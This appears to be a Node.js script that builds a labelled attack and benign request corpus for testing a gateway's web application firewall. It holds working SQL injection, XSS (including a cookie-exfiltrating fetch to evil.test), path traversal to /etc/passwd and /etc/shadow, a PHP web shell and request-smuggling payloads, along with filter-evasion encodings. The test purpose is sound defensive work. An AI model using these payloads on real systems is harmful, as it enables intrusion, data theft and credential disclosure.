// Writes attacks.jsonl and benign.jsonl (the WAF corpus, docs/waf.md). Run once: node test/gateway/corpus/generate.mjs
// The files are the stored corpus; this script documents how the encodings were produced.
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
const enc = (s) => encodeURIComponent(s);
const dbl = (s) => encodeURIComponent(encodeURIComponent(s));
const uni = (s) =>
  [...s].map((c) => (/[a-z0-9 ]/i.test(c) ? c : '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))).join('');
const pctU = (s) =>
  [...s].map((c) => (/[a-z0-9]/i.test(c) ? c : '%u' + c.charCodeAt(0).toString(16).padStart(4, '0'))).join('');
// Fullwidth forms (U+FF01..U+FF5E) of ASCII punctuation: what NFKC or a best-fit code page turns back into ASCII.
const wide = (s) =>
  [...s]
    .map((c) => (c >= '!' && c <= '~' && !/[a-z0-9]/i.test(c) ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c))
    .join('');
const html = (s) => [...s].map((c) => (/[<>"'()]/.test(c) ? `&#${c.charCodeAt(0)};` : c)).join('');
const B = '----gatehouseB0undary';
const multipart = (fields) =>
  fields
    .map(
      ([n, v, f]) =>
        `--${B}\r\nContent-Disposition: form-data; name="${n}"${f ? `; filename="${f}"` : ''}\r\n${f ? 'Content-Type: text/plain\r\n' : ''}\r\n${v}\r\n`,
    )
    .join('') + `--${B}--\r\n`;
const MP = `multipart/form-data; boundary=${B}`;

const get = (path, query, family, headers) => ({
  input: { method: 'GET', path, query, ...(headers ? { headers } : {}) },
  family,
});
const post = (path, body, contentType, family) => ({ input: { method: 'POST', path, body, contentType }, family });

const sqli = [
  "' OR '1'='1",
  "' OR 1=1--",
  '" OR ""="',
  "admin'--",
  "1' AND 1=1#",
  '1 OR 1=1',
  "' UNION SELECT username, password FROM users--",
  '1 UNION ALL SELECT NULL,NULL,NULL',
  '1; DROP TABLE users',
  "'; EXEC xp_cmdshell('dir')--",
  "1' AND SLEEP(5)--",
  "1; WAITFOR DELAY '0:0:5'--",
  "' AND extractvalue(1,concat(0x7e,version()))--",
  "1' ORDER BY 3--",
  "' UNION/**/SELECT/**/table_name/**/FROM/**/information_schema.tables--",
  '1) OR (1=1',
  "' or true--",
  "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
  '1 AND pg_sleep(10)',
  "' HAVING 1=1--",
  "'||(SELECT version())||'",
  "1' AND BENCHMARK(5000000,MD5(1))#",
  "-1' UNION SELECT load_file('/etc/passwd')-- -",
  "' OR 'x'='x",
  "admin' #",
  "1'; INSERT INTO users VALUES('h','h')--",
  "' AND CHAR(65,66)='AB",
  '1 AND 1=1',
  "'+OR+1=1--",
  'SeLeCt * FrOm users WhErE id=1 oR 1=1 --',
];
const xss = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  'javascript:alert(document.cookie)',
  '"><script>fetch("//evil.test/"+document.cookie)</script>',
  "<body onload=alert('x')>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<div style="background:url(javascript:alert(1))">',
  '<math><mtext><img src=x onerror=alert(1)>',
  "'-alert(1)-'<script>",
  '<details open ontoggle=alert(1)>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src=javascript:alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
  '<video><source onerror="alert(1)">',
  '{{constructor.constructor("alert(1)")()}}',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<base href="//evil.test/">',
  '<style>@import "//evil.test/x.css";</style>',
];
const traversal = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '/etc/passwd',
  '../../../proc/self/environ',
  'file:///etc/shadow',
  'php://filter/convert.base64-encode/resource=index.php',
  '..%c0%af..%c0%afetc/passwd',
  '../../boot.ini',
  '..;/..;/WEB-INF/web.config',
];
const scanners = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)',
  'Mozilla/5.0 zgrab/0.x',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)',
  'gobuster/3.6',
  'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Fuzz Faster U Fool v2.1.0',
  'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Acunetix)',
];

const attacks = [];
sqli.forEach((p, i) => {
  attacks.push(get('/api/search', `q=${enc(p)}`, 'sqli/urlencoded'));
  if (i % 2 === 0) attacks.push(get('/api/items', `id=${dbl(p)}`, 'sqli/double-encoded'));
  attacks.push(post('/api/login', JSON.stringify({ user: p, password: 'x' }), 'application/json', 'sqli/json'));
  if (i % 2 === 1)
    attacks.push(
      post('/api/form', `name=${enc(p).replace(/%20/g, '+')}&ok=1`, 'application/x-www-form-urlencoded', 'sqli/form'),
    );
  if (i % 3 === 0)
    attacks.push(
      post(
        '/api/upload',
        multipart([
          ['comment', p],
          ['file', 'hello', 'a.txt'],
        ]),
        MP,
        'sqli/multipart',
      ),
    );
  if (i % 3 === 1)
    attacks.push(
      post('/api/login', `{"user":"${uni(p).replace(/"/g, '\\u0022')}"}`, 'application/json', 'sqli/unicode-escape'),
    );
  if (i % 4 === 2) attacks.push(get('/api/search', `q=${pctU(p)}`, 'sqli/percent-u'));
});
xss.forEach((p, i) => {
  attacks.push(get('/api/search', `q=${enc(p)}`, 'xss/urlencoded'));
  if (i % 2 === 0) attacks.push(get('/api/page', `title=${dbl(p)}`, 'xss/double-encoded'));
  attacks.push(post('/api/comments', JSON.stringify({ comment: { body: p } }), 'application/json', 'xss/json'));
  if (i % 2 === 1) attacks.push(post('/api/profile', multipart([['bio', p]]), MP, 'xss/multipart'));
  if (i % 3 === 0)
    attacks.push(
      post('/api/comments', `{"body":"${uni(p).replace(/"/g, '\\u0022')}"}`, 'application/json', 'xss/unicode-escape'),
    );
  if (i % 3 === 1) attacks.push(get('/api/search', `q=${enc(html(p))}`, 'xss/html-entities'));
  if (i % 4 === 3) attacks.push(post('/api/form', `msg=${enc(p)}`, 'application/x-www-form-urlencoded', 'xss/form'));
});
traversal.forEach((p, i) => {
  attacks.push(get('/api/files', `name=${enc(p)}`, 'traversal/param'));
  attacks.push(post('/api/files', JSON.stringify({ path: p }), 'application/json', 'traversal/json'));
  if (i % 2 === 0) attacks.push(get('/api/files', `name=${dbl(p)}`, 'traversal/double-encoded'));
  if (i % 3 === 0) attacks.push(post('/api/upload', multipart([['file', 'x', p]]), MP, 'traversal/multipart-filename'));
});
for (const path of [
  '/static/../../etc/passwd',
  '/static/%2e%2e/%2e%2e/etc/passwd',
  '/static/%252e%252e%252fetc%252fpasswd',
  '/static/..%5c..%5cwindows%5cwin.ini',
  '/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '/static/..;/admin',
  '/static/%u002e%u002e/%u002e%u002e/etc/hosts',
])
  attacks.push(get(path, '', 'traversal/path'));
for (const [path, query] of [
  ['/api/files/report.pdf%00.txt', ''],
  ['/api/files', 'name=report.pdf%00.jpg'],
  ['/api/files', 'name=%2500'],
  ['/api/x%00', ''],
])
  attacks.push(get(path, query, 'nul'));
attacks.push(post('/api/files', JSON.stringify({ name: 'a.php\u0000.png' }), 'application/json', 'nul/json'));
sqli.forEach((p, i) => {
  if (i % 4 === 1) attacks.push(get('/api/search', `q=${enc(wide(p))}`, 'sqli/fullwidth'));
});
xss.forEach((p, i) => {
  if (i % 4 === 1)
    attacks.push(post('/api/comments', JSON.stringify({ body: wide(p) }), 'application/json', 'xss/fullwidth'));
});
attacks.push(get('/api/files', `name=${enc(wide('../../etc/passwd'))}`, 'traversal/fullwidth'));
scanners.forEach((ua) => attacks.push(get('/', '', 'scanner', { 'user-agent': ua })));
attacks.push({ input: { method: 'TRACE', path: '/api/items' }, family: 'protocol/method' });
attacks.push({ input: { method: 'PROPFIND', path: '/api/items' }, family: 'protocol/method' });
attacks.push({ input: { method: 'CONNECT', path: '/api/items' }, family: 'protocol/method' });
attacks.push(post('/api/upload', '<?php system($_GET["c"]); ?>', 'application/x-httpd-php', 'protocol/content-type'));
attacks.push(post('/api/upload', '<xml/>', 'application/xml', 'protocol/content-type'));
attacks.push({
  input: {
    method: 'POST',
    path: '/api/items',
    body: 'abc',
    headers: { 'transfer-encoding': 'chunked', 'content-length': '3' },
    contentType: 'text/plain',
  },
  family: 'smuggling/cl-te',
});
attacks.push({
  input: {
    method: 'POST',
    path: '/api/items',
    body: '0\r\n\r\nGET /admin HTTP/1.1\r\n',
    headers: { 'transfer-encoding': 'chunked', 'content-length': '30' },
    contentType: 'text/plain',
  },
  family: 'smuggling/cl-te',
});
attacks.push(get('/api/search', Array.from({ length: 300 }, (_, i) => `a${i}=1`).join('&'), 'protocol/arg-count'));
attacks.push(get('/api/search', `q=${'A'.repeat(5000)}`, 'protocol/url-length'));
attacks.push(get('/api/items', '', 'protocol/header-size', { cookie: 'x='.padEnd(9000, 'y') }));
attacks.push(
  get(
    '/api/items',
    '',
    'protocol/header-count',
    Object.fromEntries(Array.from({ length: 120 }, (_, i) => [`x-h${i}`, '1'])),
  ),
);

const benignText = [
  "O'Brien",
  "D'Angelo",
  "Mc'Kay O'Connor-Smith",
  "I can't come today, isn't it?",
  'SELECT a plan that fits your team',
  'Please select from the menu below',
  'Drop me a line when you update the report',
  'Where do I select my seat? From the app or the desk?',
  'Union Station, 50 Massachusetts Ave',
  'We sleep(ed) badly',
  "Rock 'n' roll",
  'Tom & Jerry <3',
  '3 < 5 and 7 > 2',
  'a <= b || c >= d',
  'Price: $5 -- limited offer',
  '#1 best seller',
  "It's 100% natural; order by Friday",
  'Use the "OR" operator in the search box',
  'He said "hello"; she said \'bye\'',
  'C:\\Users\\alice\\Documents',
  'email: alice+news@example.com',
  'https://example.com/search?q=shoes&page=2',
  'Ümlaut – naïve café 東京 😀',
  '1 + 1 = 2',
  'x = y * (z - 1)',
  'Insert coin to continue',
  'The table was dropped on the floor',
  'Delete my account, please',
  'Execute the plan at dawn',
  'Script for the school play',
  'JavaScript tutorial for beginners',
  'I love JavaScript: it is fun',
  'onboarding checklist',
  'Type your <name> here',
  'Version 2.3.1 (build 45)',
  '../ is the parent directory in Unix',
  'Go to the ./docs folder',
  'Call me at +1 (555) 010-9999',
  '50/50 chance',
  "Ben & Jerry's",
  "Let's meet at 5 o'clock",
  'Password must be 8+ chars',
  'true',
  'false',
  'null',
  '0',
  '-1',
  '3.14159',
  '2026-11-28T18:00:00Z',
  'SELECT',
  'or',
  'and 1',
  'union jack',
  'select all the fruits from the basket where possible',
  'Ordered by date, newest first',
  'Group by team',
  'having fun',
  'Benchmark results look good',
  'The script ran on stage',
  'Alert: your order shipped',
  'document the cookie recipe',
  'Window location: north side',
  'He wrote on the base of the statue',
];
// Japanese and Chinese prose uses fullwidth punctuation and digits: folded to ASCII, it must stay benign.
const cjkText = [
  '東京タワー（東京都港区）は３３３ｍです！',
  'ＡＢＣ株式会社＜営業部＞　担当：山田',
  '価格：￥１，０００（税込）／送料無料',
  '「はい」と言いました。本当ですか？',
  '会議は１０：３０〜１１：００、場所は３Ｆ会議室＃２',
  '这是一个测试（仅供参考）：请选择＊一个＊选项',
  'メール：ｉｎｆｏ＠ｅｘａｍｐｌｅ．ｊｐ までご連絡ください',
  '私の名前はオブライエン（Ｏ＇Ｂｒｉｅｎ）です',
  '５＜７　かつ　９＞２',
  '【重要】パスワードを変更してください；期限は今週金曜日',
];
const markdown = [
  '**bold** and _italic_ with <b>bold</b> and <i>italic</i>',
  '# Title\n\nSome <em>text</em> and a [link](https://example.com)',
  '<p>Hello <strong>world</strong></p>',
  '- item 1\n- item 2\n\n> quote <br> line',
  '<u>underline</u> <sup>2</sup> <sub>i</sub>',
  '![image](https://example.com/a.png "title")',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '`inline code` and ```js\nconst a = 1;\n```',
  '<span class="note">Note</span>: read <a href="https://example.com/docs">the docs</a>',
  '<h1>Heading</h1><ul><li>one</li></ul>',
  '<img src="https://example.com/cat.png" alt="cat">',
  '<code>a && b</code>',
  '<blockquote>to be or not to be</blockquote>',
  '<table><tr><td>1</td></tr></table>',
  '<kbd>Ctrl</kbd>+<kbd>C</kbd>',
  'Line one<br/>Line two',
  '<mark>highlight</mark>',
  '<del>old</del> <ins>new</ins>',
  '[docs](../guide.md)',
  '<abbr title="HyperText">HTML</abbr>',
];
const code = [
  'const x = a > b ? a : b;',
  'if (a && b || c) { return; }',
  'for (let i = 0; i < n; i++) sum += i;',
  'def f(x):\n    return x * 2',
  'SELECT name, email FROM users WHERE id = 42;',
  'SELECT count(*) FROM orders GROUP BY customer_id HAVING count(*) > 5;',
  'UPDATE accounts SET balance = balance - 10 WHERE id = 7;',
  'CREATE TABLE t (id int primary key, name text);',
  "INSERT INTO t (id, name) VALUES (1, 'Ann');",
  'SELECT * FROM posts ORDER BY created_at DESC LIMIT 10;',
  'console.log("hello, world");',
  'fn main() { println!("hi"); }',
  'git commit -m "fix: typo"',
  'npm install --save-dev vitest',
  'curl -s https://example.com | jq .name',
  'echo $HOME',
  'x = {"a": [1, 2, 3]}',
  'public static void main(String[] args) {}',
  'import { readFile } from "node:fs/promises";',
  'SELECT a.id FROM a JOIN b ON a.id = b.a_id',
  'let s = `template ${value}`;',
  'arr.filter(x => x > 0).map(x => x * 2)',
  'map<string, int> m;',
  "SELECT * FROM t WHERE name LIKE '%son'",
  'if x<y and y>z: pass',
  '<?xml version="1.0"?>',
  'Dim x As Integer',
  '#include <stdio.h>',
  'std::vector<int> v;',
  'List<String> names = new ArrayList<>();',
];
const benign = [];
benignText.forEach((t, i) => {
  benign.push(get('/api/search', `q=${enc(t)}`, 'text/query'));
  benign.push(post('/api/comments', JSON.stringify({ author: 'Sam', body: t }), 'application/json', 'text/json'));
  if (i % 2 === 0)
    benign.push(
      post(
        '/api/form',
        `name=${enc(t).replace(/%20/g, '+')}&agree=on`,
        'application/x-www-form-urlencoded',
        'text/form',
      ),
    );
  if (i % 3 === 0)
    benign.push(
      post(
        '/api/upload',
        multipart([
          ['caption', t],
          ['file', '<script>in a file is data</script>', 'notes.txt'],
        ]),
        MP,
        'text/multipart',
      ),
    );
});
cjkText.forEach((t) => {
  benign.push(get('/api/search', `q=${enc(t)}`, 'text/cjk-query'));
  benign.push(post('/api/comments', JSON.stringify({ body: t }), 'application/json', 'text/cjk-json'));
});
markdown.forEach((t) => {
  benign.push(post('/api/posts', JSON.stringify({ title: 'Post', markdown: t }), 'application/json', 'markdown/json'));
  benign.push(get('/api/preview', `md=${enc(t)}`, 'markdown/query'));
});
code.forEach((t) => {
  benign.push(post('/api/snippets', JSON.stringify({ lang: 'x', code: t }), 'application/json', 'code/json'));
  benign.push(post('/api/snippets', t, 'text/plain', 'code/text'));
});
for (const path of [
  '/',
  '/api/items/42',
  '/static/app.3f9a.js',
  '/api/users/me',
  '/docs/getting-started.html',
  '/api/files/report%20final.pdf',
  '/api/v1/orders/2026-11-28',
  '/.well-known/openid-configuration',
  '/api/items/%E6%9D%B1%E4%BA%AC',
  '/api/search/c%2B%2B',
])
  benign.push(get(path, '', 'path'));
for (const ua of [
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'curl/7.88.1',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'okhttp/4.12.0',
  'PostmanRuntime/7.36.0',
])
  benign.push(get('/api/items', 'page=1', 'agent', { 'user-agent': ua }));
for (const m of ['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD'])
  benign.push({
    input: {
      method: m,
      path: '/api/items/1',
      ...(m === 'PUT' || m === 'PATCH' ? { body: '{"a":1}', contentType: 'application/merge-patch+json' } : {}),
    },
    family: 'method',
  });

const write = (file, rows, label) =>
  writeFileSync(
    join(here, file),
    rows.map((r) => JSON.stringify({ input: r.input, label, family: r.family })).join('\n') + '\n',
  );
write('attacks.jsonl', attacks, 'attack');
write('benign.jsonl', benign, 'benign');
console.log(`attacks ${attacks.length}, benign ${benign.length}`);
